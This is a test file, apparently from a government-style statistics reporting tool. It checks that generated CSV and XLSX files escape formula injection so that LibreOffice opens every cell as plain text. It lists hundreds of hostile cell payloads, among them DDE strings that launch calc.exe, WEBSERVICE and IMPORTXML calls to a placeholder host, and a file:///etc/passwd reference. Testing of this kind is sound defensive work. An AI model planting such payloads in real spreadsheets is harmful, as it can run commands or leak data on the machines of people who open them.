/** Text that would be a formula, in every place of every file of figures: none is one when LibreOffice opens it. */
import { describe, expect, it } from 'vitest';
import { nationalCsv, nationalXlsx, refusalsCsv, type Whole } from '../../../scripts/many/combine/files.ts';
import type { NationalTable } from '../../../scripts/many/combine/tables.ts';
import {
  csvBytes,
  escapeFormula,
  internalXlsx,
  reportCsv,
  reportXlsx,
  reservedXlsx,
} from '../../../src/main/reports/files/index.ts';
import { civilDateSchema } from '../../../src/shared/platform/dates.ts';
import {
  countMonth,
  publishMonth,
  publishYear,
  type Imprint,
  type InternalTable,
} from '../../../src/shared/reports/index.ts';
import { officeProgram, readByOffice } from '../../support/office.ts';
import { casesOf, hmacOf, randomFrom, unitOf } from './support.ts';

const heads = [
  '=',
  '+',
  '-',
  '@',
  '|',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '   +',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  '{=',
  '%=',
];
const bodies = [
  ...['1+1', 'SUM(A1:A9)', 'HYPERLINK("http://x.invalid/"&A1;"ver")', 'HYPERLINK("http://x.invalid/","ver")'],
  ...[
    "cmd|'/C calc'!A0",
    'DDE("soffice";"a";"b")',
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    'WEBSERVICE("http://x.invalid")',
  ],
  ...['IMPORTXML("http://x.invalid","//a")', "'file:///etc/passwd'#$Sheet1.A1", '2', '2026-06-01', 'A1', '1e9', '1/2'],
  ...[
    'SUMA(1;2)',
    '"a";"b"',
    '<b>&amp;</b>',
    '-+=1+1',
    '@SUM(1+1)*cmd',
    '1+1;=2+2',
    'a\r\n=1+1',
    '{1;2}',
    'VERDADERO()',
  ],
  ...['ENCODEURL("á")', 'INFO("directory")', 'CELL("filename")'],
];
const hostile = heads.flatMap((head) => bodies.map((body) => `${head}${body}`)).slice(0, 513);

const imprint = (text: string): Imprint => ({
  ...{ publication: 1, seal: 'ABCDE12345', cutOff: civilDateSchema.parse('2026-07-05'), ubigeo: '150132' },
  ...{ centreName: text, department: text, district: text, fingerprint: text },
});

const internal: InternalTable = {
  ...{ key: 'T18', title: hostile[0] ?? '', groupings: [], notes: hostile },
  columns: hostile.slice(0, 40).map((label) => ({ label, kind: 'count' as const })),
  rows: hostile.map((label) => ({ label, total: false, cells: Array.from({ length: 40 }, () => 3) })),
};
const national: NationalTable = {
  ...{ code: 'centres', title: hostile[1] ?? '', columns: [{ code: 'name', words: hostile[2] ?? '' }] },
  rows: hostile.map((text) => ({ code: text, words: text, values: [text] })),
};
const whole: Whole = {
  ...{ year: '2026', tables: [national], centres: national },
  facts: hostile.map((text) => ({ code: text, words: text, text })),
  refusals: hostile.map((text) => ({ file: text, centre: text, period: text, kind: 'schema' as const })),
};
const month = publishMonth(countMonth(casesOf(70, randomFrom(3))), unitOf('2026-06'));
/** Districts and evaluation of a year bring their words from tables that somebody may have changed. */
const year = publishYear(
  hostile.length * 3,
  [{ key: 'T16', title: hostile[3] ?? '', kind: 'one-way', rows: hostile.map((label) => ({ label, count: 3 })) }],
  { centre: 'C-0001', period: '2026', revision: 1, startBytesOf: (group) => hmacOf('2026', group) },
);
const of = { centreName: hostile[4] ?? '', period: '2026-06' };

/** Line ends are one thing to a spreadsheet. */
const plain = (text: string) => text.replaceAll(/\r\n?/g, '\n');

if (officeProgram === null)
  console.log('SKIPPED: no LibreOffice here, hostile cells were not read back (libreoffice-calc-nogui)');

describe.skipIf(officeProgram === null)('hostile text in the files of figures', () => {
  it('is text to LibreOffice in every one of them, word for word', async () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(500);
    const files: Record<string, Uint8Array> = {
      'reservado-filas.csv': csvBytes(hostile.map((text) => [text, 1, text])),
      'nacional.csv': nationalCsv(whole),
      'revision.csv': refusalsCsv(whole),
      'anual.csv': reportCsv(year, imprint('CEM')),
      'mes.csv': reportCsv(month, imprint(hostile[5] ?? '')),
      'anual.xlsx': await reportXlsx(year, imprint('CEM')),
      'mes.xlsx': await reportXlsx(month, imprint(hostile[5] ?? '')),
      'tablas.xlsx': await internalXlsx([internal], of),
      'reservado.xlsx': await reservedXlsx(
        [internal],
        hostile.map((text) => [text, text] as const),
        of,
      ),
      'nacional.xlsx': await nationalXlsx(whole),
    };
    const control = Buffer.from(`"=1+1";2\r\n"+3";4\r\n`);
    const { 'control.csv': caught, ...read } = readByOffice({ ...files, 'control.csv': control });
    expect(caught?.formulas).toBeGreaterThan(0);
    expect(Object.entries(read).map(([name, { formulas }]) => [name, formulas])).toEqual(
      Object.keys(files).map((name) => [name, 0]),
    );
    const lost = Object.entries(read).flatMap(([name, { texts }]) => {
      const seen = new Set(texts);
      const all = name.startsWith('mes.') ? hostile.slice(5, 6) : hostile;
      const expected = all.map((text) => plain(name.endsWith('.csv') ? escapeFormula(text) : text));
      return expected.filter((text) => !seen.has(text)).map((text) => [name, text]);
    });
    expect(lost).toEqual([]);
  });
});
